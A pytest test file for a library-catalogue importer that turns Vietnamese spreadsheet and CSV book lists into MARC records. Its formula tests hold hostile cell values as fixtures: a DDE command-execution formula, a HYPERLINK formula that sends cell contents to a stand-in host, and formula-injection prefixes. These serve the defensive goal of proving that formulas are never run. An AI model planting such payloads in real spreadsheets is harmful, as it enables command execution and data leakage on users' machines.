"""Spreadsheets as libraries send them: every quirk, the mapping kept, the workbook handed back."""

from __future__ import annotations

import gzip
import io
import zipfile
from contextlib import suppress
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mappings.spreadsheet import Column, ColumnMapping, Csv, RowOutcome, Xlsx, annotate, preview, safe_text
from mappings.spreadsheets.cells import cell_of, repair_isbn, repair_issn
from mappings.spreadsheets.columns import heading_role
from mappings.spreadsheets.copies import accession_numbers, number_of, places
from mappings.spreadsheets.tables import MOST_UNPACKED
from unioncat.marc import Record, values
from unioncat.marc.formats import ParsedRecord, ReadFormat
from unioncat.model import BadRecord, Finding, RawRecord, UnreadableInput, WrongUse
from unioncat.quality import message


def workbook(*rows: list[object], title: str = "Sách", merge: str = "") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def read(format: ReadFormat, data: bytes, **hints: str) -> list[ParsedRecord | BadRecord]:
    found: list[ParsedRecord | BadRecord] = []
    for harvested in format.split(io.BytesIO(data), hints):
        assert harvested.raw is not None
        try:
            found.append(format.parse(harvested.raw))
        except BadRecord as error:
            found.append(error)
    return found


def record(found: ParsedRecord | BadRecord) -> Record:
    assert isinstance(found, ParsedRecord), found
    return found.record


def rules(found: ParsedRecord | BadRecord) -> set[str]:
    assert isinstance(found, ParsedRecord), found
    return {one.rule for one in found.findings}


def one(**cells: object) -> ParsedRecord:
    headings = {"title": "Tên sách", "isbn": "ISBN", "copies": "Số lượng", "barcodes": "Số ĐKCB", "place": "Nơi XB",
                "location": "Kho", "authors": "Tác giả", "year": "Năm XB", "pages": "Số trang", "price": "Giá bìa",
                "call": "Ký hiệu xếp giá", "language": "Ngôn ngữ", "imprint": "Thông tin xuất bản"}  # fmt: skip
    told = {"title": "Đất rừng phương Nam", **cells}
    (found,) = read(Xlsx(), workbook([headings[name] for name in told], list(told.values())))
    assert isinstance(found, ParsedRecord), found
    return found


# heading row and columns


def test_title_rows_above_the_heading_and_a_heading_in_two_rows() -> None:
    data = workbook(
        ["THƯ VIỆN HUYỆN BA TRI"],
        ["Danh mục sách bổ sung năm 2023"],
        [],
        ["STT", "Tên sách", "Tác giả", "Xuất bản", None, "Số trang"],
        [None, None, None, "NXB", "Năm", None],
        [1, "Dế Mèn phiêu lưu ký", "Tô Hoài", "Kim Đồng", 2019, 148],
        [2, "Quê nội", "Võ Quảng", "Kim Đồng", 2020, 200],
    )
    first, second = read(Xlsx(), data)
    assert values(record(first), "245$a") == ["Dế Mèn phiêu lưu ký"]
    assert values(record(first), "264$bc") == ["Kim Đồng, 2019"]
    assert values(record(second), "300$a") == ["200 tr."]


@pytest.mark.parametrize(
    ("heading", "role"),
    [
        ("Nhan đề", "title"),
        ("TÊN SÁCH", "title"),
        ("Ten sach", "title"),
        ("Tªn s¸ch", "title"),
        ("Teân saùch", "title"),
        ("Số ĐKCB (*)", "barcodes"),
        ("Năm\nXB", "year"),
        ("NXB", "publisher"),
        ("ISBN:", "isbn"),
        ("Publisher", "publisher"),
        ("Đơn giá (VNĐ)", "price"),
        ("CSPL", "call_number"),
        ("Vị trí tài liệu", "location"),
        ("Chữ ký", ""),
        ("", ""),
    ],
)
def test_heading(heading: str, role: str) -> None:
    assert heading_role(heading)[0] == role


def test_without_headings_contents_decide() -> None:
    data = workbook(
        ["Đất rừng phương Nam và những truyện khác", "Đoàn Giỏi", 2018, "978-604-2-05234-4"],
        ["Hương rừng Cà Mau trọn bộ ba tập", "Sơn Nam", 2016, "0-306-40615-2"],
        ["Truyện cổ tích Việt Nam chọn lọc", "Nguyễn Đổng Chi", 2001, "978-604-2-05234-4"],
    )
    found = read(Xlsx(), data)
    assert [values(record(each), "245$a:100$a:264$c") for each in found][1] == [
        "Sơn Nam",
        "Hương rừng Cà Mau trọn bộ ba tập",
        "2016",
    ]


def test_a_file_without_titles_is_refused_with_a_sentence() -> None:
    with pytest.raises(UnreadableInput, match="no column with titles"):
        read(Csv(), b"STT,SL\n1,2\n3,4\n")


# values that Excel spoils


@pytest.mark.parametrize(
    ("text", "value", "rule"),
    [
        ("978-604-2-05234-4", "978-604-2-05234-4", ""),
        ("9.786042052344E+12", "9786042052344", "sheet-scientific"),
        ("9,786042052344E+12", "9786042052344", "sheet-scientific"),
        ("9.78604E+12", "", "sheet-scientific-lost"),
        ("9,78E+12", "", "sheet-scientific-lost"),
        ("9780000000000", "", "sheet-scientific-lost"),
        ("306406152", "0306406152", "sheet-lost-zeros"),
        ("80442957X", "080442957X", "sheet-lost-zeros"),
        ("306406153", "306406153", "isbn-length"),
        ("9786042052345", "9786042052345", "isbn-check-digit"),
    ],
)
def test_isbn_is_repaired_only_where_the_check_digit_proves_it(text: str, value: str, rule: str) -> None:
    assert (repair_isbn(text).value, repair_isbn(text).rule) == (value, rule)


def test_issn_gets_its_zero_back() -> None:
    assert repair_issn("8667349").value == "0866-7349"
    assert repair_issn("8667340").value == ""


def test_an_isbn_kept_as_a_number_is_whole() -> None:
    assert values(one(isbn=9786042052344).record, "020$a") == ["9786042052344"]
    assert values(one(isbn=9786042052345).record, "020$z") == ["9786042052345"]
    assert rules(one(isbn=9.78e12)) == {"sheet-scientific-lost"}
    assert values(one(isbn=9.78e12).record, "020$a") == []


def test_several_isbns_in_one_cell() -> None:
    assert values(one(isbn="9786042052344; 0-306-40615-2").record, "020$a") == ["9786042052344", "0-306-40615-2"]


def test_a_year_that_became_a_date() -> None:
    import datetime

    found = one(year=datetime.date(2018, 1, 1))
    assert values(found.record, "264$c") == ["2018"]
    assert values(found.record, "008/07-10") == ["2018"]
    assert rules(found) == {"sheet-year-as-date"}
    assert values(one(year=2018.0).record, "008/07-10") == ["2018"]


def test_protected_zeros_are_text_and_no_formula() -> None:
    assert cell_of('="0306406152"').kind == "text"
    assert cell_of('="0306406152"').text == "0306406152"


# formulas and errors


def test_formulas_are_never_computed() -> None:
    data = workbook(
        ["Tên sách", "Tác giả", "Năm XB"],
        ['=CONCATENATE("A","B")', "Tô Hoài", 2019],
        ["Quê nội", '=HYPERLINK("http://x.example/?"&A1,"Võ Quảng")', "=1+2018"],
        ["Mảnh trăng", "=cmd|' /C calc'!A0", "#REF!"],
    )
    refused, flagged, hostile = read(Xlsx(), data)
    assert isinstance(refused, BadRecord)
    assert "formula" in str(refused)
    assert rules(flagged) == {"sheet-formula"}
    assert values(record(flagged), "100$a") == []
    assert rules(hostile) == {"sheet-formula", "sheet-error-value"}
    for found in (flagged, hostile):
        assert "=" not in "".join(values(record(found), "XXX"))


# names, copies, imprint


def test_names_of_one_cell() -> None:
    found = one(authors="Robert de Souza, Jonas Stumpf; \nJuhri Iwan Agriawan ... [et al.].").record
    assert values(found, "100$a:700$a") == ["Robert de Souza", "Jonas Stumpf", "Juhri Iwan Agriawan"]
    found = one(authors="Nguyễn Nhật Ánh (chủ biên), Hoàng Tường minh họa").record
    assert values(found, "700$a4") == ["Nguyễn Nhật Ánh edt", "Hoàng Tường ill"]
    assert values(one(authors="Trương Vĩnh Ký").record, "100$a") == ["Trương Vĩnh Ký"]
    assert values(one(authors="Trường Đại học Cần Thơ").record, "110$a") == ["Trường Đại học Cần Thơ"]
    assert rules(one(authors="TCVN 5531-1991")) == {"sheet-author-not-a-name"}


@pytest.mark.parametrize(
    ("cell", "numbers"),
    [
        ("VV.001-VV.003; VV.010", ["VV.001", "VV.002", "VV.003", "VV.010"]),
        ("00123-25", ["00123", "00124", "00125"]),
        ("8878, 8879", ["8878", "8879"]),
        ("TK 01 đến 03", ["TK 01", "TK 02", "TK 03"]),
        ("M1-99999999", ["M1-99999999"]),
        ("", []),
    ],
)
def test_accession_numbers(cell: str, numbers: list[str]) -> None:
    assert accession_numbers(cell) == numbers


def test_places_and_counts() -> None:
    assert places("Kho mượn: 2; Kho đọc (1)") == [("Kho mượn", 2), ("Kho đọc", 1)]
    assert places("Kho A") == [("Kho A", None)]
    assert [number_of(text) for text in ("3", "3 bản", "3.0", "ba")] == [3, 3, 3, None]


def test_several_copies_in_one_cell() -> None:
    found = one(barcodes="VV.001-VV.003", location="Kho mượn", call="895.9223 / Đ124R", copies=3)
    assert values(found.record, "876$p") == ["VV.001", "VV.002", "VV.003"]
    assert values(found.record, "852$bh") == ["Kho mượn 895.9223 / Đ124R"]
    assert values(found.record, "082$a") == ["895.9223"]
    assert rules(found) == {"sheet-copies"}
    assert "sheet-copies-mismatch" in rules(one(barcodes="VV.001-VV.003", copies=5))
    assert values(one(copies="Kho mượn: 2; Kho đọc: 1").record, "852$bt") == ["Kho mượn 2", "Kho đọc"]


def test_imprint_in_one_cell() -> None:
    found = one(imprint="H. : Giáo dục, 2005").record
    assert values(found, "264$a:264$b:264$c", join=None) == ["H. :", "Giáo dục,", "2005"]
    assert values(found, "008/07-10") == ["2005"]


def test_merged_cells_count_for_every_row() -> None:
    data = workbook(
        ["Tên sách", "Tác giả", "Tập"],
        ["Chiến tranh và hòa bình", "Lev Tolstoy", 1],
        [None, "Lev Tolstoy", 2],
        [None, "Lev Tolstoy", 3],
        merge="A2:A4",
    )
    found = read(Xlsx(), data)
    assert [values(record(each), "245$an") for each in found] == [
        [f"Chiến tranh và hòa bình. Tập {number}"] for number in (1, 2, 3)
    ]
    assert rules(found[1]) == {"sheet-merged"}


# text


def legacy(text: str, codec: str) -> str:
    return text.encode(codec).decode("cp1252", "surrogateescape")


ROWS = (
    ("Lịch sử Đảng bộ tỉnh Bến Tre", "Ban Tuyên giáo Tỉnh ủy Bến Tre"),
    ("Truyện ngắn chọn lọc của các nhà văn trẻ", "Nguyễn Thị Thanh Bình"),
    ("Kỹ thuật trồng bưởi da xanh ở đồng bằng sông Cửu Long", "Trần Văn Hậu"),
    ("Những người con ưu tú của quê hương Đồng Khởi", "Phạm Thị Hạnh"),
    ("Tìm hiểu văn hóa ẩm thực miền Tây Nam Bộ", "Lê Thị Kim Phượng"),
)


def test_tcvn3_in_a_csv_file() -> None:
    lines = ["Tên sách,Tác giả", *(f"{title},{author}" for title, author in ROWS)]
    data = "\r\n".join(line.lower() if number else line for number, line in enumerate(lines)).encode("tcvn3", "replace")
    found = read(Csv(), data)
    assert [values(record(each), "245$a")[0] for each in found] == [title.lower() for title, _ in ROWS]
    assert "text-legacy" in rules(found[0])


def test_vni_in_a_workbook() -> None:
    data = workbook(["Teân saùch", "Taùc giaû"], *([legacy(title, "vni"), legacy(who, "vni")] for title, who in ROWS))
    found = read(Xlsx(), data)
    assert [values(record(each), "245$a")[0] for each in found] == [title for title, _ in ROWS]


def test_unicode_text_is_left_alone() -> None:
    for title, _ in ROWS:
        assert rules(one(title=title)) == set()
    assert values(one(title="Toái Toái", authors="Lý Tân").record, "245$a:100$a") == ["Lý Tân", "Toái Toái"]


# CSV


@pytest.mark.parametrize(
    "data",
    [
        "Tên sách;Năm XB\r\nĐất rừng;2018\r\n".encode(),
        "Tên sách\tNăm XB\nĐất rừng\t2018\n".encode("utf-16"),
        "\ufeffTên sách,Năm XB\nĐất rừng,2018\n".encode(),
        'sep=;\n"Tên sách";"Năm XB"\n"Đất rừng";"2018"'.encode(),
        "Tên sách|Năm XB\nĐất rừng|2018\n".encode(),
        "Tên sách,Năm XB\nĐất rừng,2018\n,\n\nTên sách,Năm XB\n".encode(),
    ],
)
def test_csv_dialects(data: bytes) -> None:
    assert Csv().sniff(data, "sach.csv") > 0.5
    (found,) = read(Csv(), data)
    assert values(record(found), "245$a:264$c") == ["Đất rừng", "2018"]


def test_a_line_break_within_a_cell() -> None:
    (found,) = read(Csv(), 'Tên sách,Ghi chú\n"Đất rừng","dòng 1\ndòng 2"\n'.encode())
    assert values(record(found), "500$a") == ["dòng 1\ndòng 2"]


def test_what_is_no_csv() -> None:
    for data in (
        b"",
        b"<a,b>\n<c,d>",
        b"=LDR  a,b\n=001  a,b",
        b"00714cam,a22\x1e",
        b'{"a": 1, "b": 2}',
        b"\x00\x01,\x02",
    ):
        assert Csv().sniff(data, "x") == 0.0


# the mapping


def test_a_mapping_is_kept_and_used_again_for_columns_that_moved() -> None:
    first = preview(io.BytesIO(workbook(["Tựa", "Ai viết", "Mã"], ["Đất rừng phương Nam", "Đoàn Giỏi", "A1"])), "xlsx")
    assert first.guessed
    columns = tuple(
        Column(
            column.heading, column.number, {"Tựa": "title", "Ai viết": "authors", "Mã": "identifier"}[column.heading]
        )
        for column in first.mapping.columns
    )
    kept = ColumnMapping.from_json(ColumnMapping(columns, "Sách", 1, {"language": "vie"}).to_json())
    moved = workbook(["Mã", "Ghi chú", "Ai viết", "Tựa"], ["A1", "rách", "Đoàn Giỏi", "Đất rừng phương Nam"])
    (found,) = read(Xlsx(), moved, mapping=kept.to_json())
    assert values(record(found), "001") == ["A1"]
    assert values(record(found), "245$a:100$a:008/35-37:500$a") == ["vie", "Đoàn Giỏi", "Đất rừng phương Nam"]
    again = preview(io.BytesIO(moved), "xlsx", kept)
    assert not again.guessed


def test_a_mapping_that_does_not_fit_is_guessed_anew() -> None:
    kept = ColumnMapping((Column("Nhan đề cũ", 1, "title"), Column("Ai", 2, "authors")))
    shown = preview(io.BytesIO(workbook(["Tên sách", "Tác giả"], ["Quê nội", "Võ Quảng"])), "xlsx", kept)
    assert shown.guessed
    assert [column.role for column in shown.columns] == ["title", "authors"]


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"columns": [{"number": 1, "role": "nonsense"}]}', "null"])
def test_what_is_no_mapping_is_said_in_a_sentence(text: str) -> None:
    with pytest.raises(WrongUse):
        ColumnMapping.from_json(text)


# preview and comparison


def test_preview() -> None:
    data = workbook(
        ["Mã", "Tên sách", "ISBN"],
        ["A1", "Quê nội", "9.78604E+12"],
        ["A2", None, "0-306-40615-2"],
        ["A3", "Dế Mèn", None],
    )
    shown = preview(io.BytesIO(data), "xlsx", previous=["A1", "A3", "A9"])
    assert (shown.total, shown.refused) == (3, 1)
    assert shown.findings == {"sheet-scientific-lost": 1}
    assert shown.comparison == (shown.comparison and type(shown.comparison)(new=1, same=2, gone=1))
    assert shown.rows[1].refused == "row 3 cannot be stored: it has no title"
    assert shown.columns[2].samples == ("9.78604E+12", "0-306-40615-2")


def test_a_preview_without_titles_still_shows_the_columns() -> None:
    shown = preview(io.BytesIO(b"a,b\n1,2\n3,4\n"), "csv")
    assert [column.heading for column in shown.columns] or shown.total == 3


# identifiers


def identifiers(data: bytes) -> list[str | None]:
    return [found.identifier for found in Xlsx().split(io.BytesIO(data), {})]


def test_identifiers_outlive_moves_and_changes_of_copies() -> None:
    rows: list[list[object]] = [["Quê nội", "Võ Quảng", 2], ["Dế Mèn", "Tô Hoài", 3]]
    before = identifiers(workbook(["Tên sách", "Tác giả", "Số lượng"], *rows))
    after = identifiers(workbook(["Tên sách", "Tác giả", "Số lượng"], rows[1], ["Quê nội", "Võ Quảng", 7]))
    assert sorted(map(str, before)) == sorted(map(str, after))


def test_a_row_that_only_moved_is_unchanged_in_its_bytes() -> None:
    rows: list[list[object]] = [["Quê nội", "Võ Quảng", 2], ["Dế Mèn", "Tô Hoài", 3]]
    heading: list[object] = ["Tên sách", "Tác giả", "Số lượng"]
    raws = [
        {found.raw.data for found in Xlsx().split(io.BytesIO(workbook(heading, *order)), {}) if found.raw}
        for order in (rows, rows[::-1])
    ]
    assert raws[0] == raws[1]


def test_a_repeated_identifier_gets_a_number() -> None:
    data = workbook(["Mã", "Tên sách"], ["A1", "Quê nội"], ["A1", "Dế Mèn"])
    assert identifiers(data) == ["A1", "A1#2"]
    assert rules(read(Xlsx(), data)[1]) == {"sheet-identifier-repeated"}


# the workbook handed back


def handed_back(data: bytes, format: str, outcomes: dict[int, RowOutcome], language: str = "vi") -> openpyxl.Workbook:
    out = io.BytesIO()
    annotate(io.BytesIO(data), format, outcomes, out, language=language, message=message)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            assert not name.endswith("vbaProject.bin")
            assert b"<f>" not in archive.read(name)
    out.seek(0)
    return openpyxl.load_workbook(out)


def test_the_workbook_says_what_became_of_every_row() -> None:
    data = workbook(
        ["Danh mục"],
        ["Tên sách", "ISBN"],
        ["Quê nội", "306406152"],
        ["=1+1", "x"],
        ["Dế Mèn", "9.78E+12"],
    )
    outcomes = {
        3: RowOutcome("stored", (Finding("sheet-lost-zeros", "info", "B", "306406152", True),)),
        4: RowOutcome("refused", (), "row 4 cannot be stored: its title is a formula"),
        5: RowOutcome("stored", (Finding("sheet-scientific-lost", "warning", "B", "9.78E+12"),)),
    }
    sheet = handed_back(data, "xlsx", outcomes).active
    assert sheet is not None
    assert [cell.value for cell in sheet[2]] == ["Tên sách", "ISBN", "Kết quả", "Chi tiết"]
    assert [cell.value for cell in sheet[3]][2:] == [
        "Đã nhận",
        "B: Số 0 ở đầu ISBN bị mất; số kiểm tra chứng tỏ và đã thêm lại (306406152) – đã sửa",
    ]
    assert sheet["C4"].value == "Không nhận được"
    assert sheet["A4"].value == "=1+1"
    assert sheet["A4"].data_type in ("s", "f")
    english = handed_back(data, "xlsx", outcomes, "en").active
    assert english is not None
    assert (
        english["D5"].value
        == "B: Excel turned the number into 9.78E+12; its last digits are lost (9.78E+12) – please look"
    )


def test_a_csv_comes_back_as_a_workbook_in_which_nothing_runs() -> None:
    data = 'Tên sách,Ghi chú\nQuê nội,"=HYPERLINK(""http://x"")"\n+84 900,@SUM(A1)\n'.encode()
    sheet = handed_back(data, "csv", {2: RowOutcome("stored"), 3: RowOutcome("unchanged")}).active
    assert sheet is not None
    assert sheet["B2"].quotePrefix
    assert sheet["C3"].value == "Không đổi"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", " =1", "\r=1", "＝1"])
def test_text_for_csv_is_safe(text: str) -> None:
    assert safe_text(text).startswith("'")
    assert safe_text("Quê nội") == "Quê nội"


# hostile files


def test_old_and_broken_workbooks_are_refused_with_a_sentence() -> None:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    assert Xlsx().sniff(old, "sach.xls") > 0.5
    with pytest.raises(UnreadableInput, match=r"save it as \.xlsx"):
        read(Xlsx(), old)
    with pytest.raises(UnreadableInput, match="cannot be read"):
        read(Xlsx(), workbook(["Tên sách"])[:700])


def test_a_zip_bomb_is_refused_by_a_stated_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mappings.spreadsheets.tables.MOST_UNPACKED", 1000)
    with pytest.raises(UnreadableInput, match=r"unpacks to .* more than the 1000 allowed"):
        read(Xlsx(), workbook(["Tên sách"], ["Quê nội"]))
    assert MOST_UNPACKED == 2 * 1024**3


@given(st.binary(max_size=400))
@settings(max_examples=60)
def test_any_bytes_give_records_or_a_sentence(data: bytes) -> None:
    for format in (Xlsx(), Csv()):
        assert 0.0 <= format.sniff(data, "x") <= 1.0
        with suppress(UnreadableInput):
            read(format, data)
        with suppress(BadRecord):
            format.parse(RawRecord(format.name, data, 1))


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=4), min_size=1, max_size=5))
@settings(max_examples=60)
def test_any_table_gives_records_or_a_sentence(rows: list[list[str]]) -> None:
    text = "Tên sách,Tác giả,ISBN,Năm\n" + "\n".join(",".join(f'"{cell}"' for cell in row) for row in rows)
    with suppress(UnreadableInput):
        read(Csv(), text.encode("utf-8", "replace"))


# real files


@pytest.mark.corpus
def test_the_librarys_own_file(shared_data: Path) -> None:
    data = (shared_data / "records/vn_hcmut/data_mini.xlsx").read_bytes()
    assert Xlsx().sniff(data[:65536], "data_mini.xlsx") > 0.9
    shown = preview(io.BytesIO(data), "xlsx")
    assert [column.role for column in shown.columns] == [
        "ignore", "call_number", "title", "volume", "authors", "year", "barcodes", "location",
    ]  # fmt: skip
    first, second, third = (record(found) for found in read(Xlsx(), data))
    assert values(first, "245$ab") == [
        "Humanitarian Logistics in Asia-Pacific : Challenges, Opportunities and Perspectives"
    ]
    assert values(first, "100$a:700$a") == ["Robert de Souza", "Jonas Stumpf", "Juhri Iwan Agriawan"]
    assert values(second, "110$a") == ["Bộ Xây dựng"]
    assert values(third, "500$a") == ["TCVN 5531-1991", "(ST SEV 1745-79)"]
    assert values(first, "852$bh:876$p") == ["Sách ngoại văn _ CS2 338.9 SO-R", "8878"]


@pytest.mark.corpus
def test_the_bookshops_files(shared_data: Path) -> None:
    """README: 1,751 rows, 1,729 distinct; 30 rows."""
    folder = shared_data / "records/vn_bookshop"
    tiki = gzip.decompress((folder / "tiki_book_data.csv.gz").read_bytes())
    found = read(Csv(), tiki)
    assert len(found) == 1751
    assert not [each for each in found if isinstance(each, BadRecord)]
    assert not any(rule.startswith("text-") for each in found for rule in rules(each))
    fahasa = (folder / "fahasa_books_20251123_152905.csv").read_bytes()
    assert len(read(Csv(), fahasa)) == 30
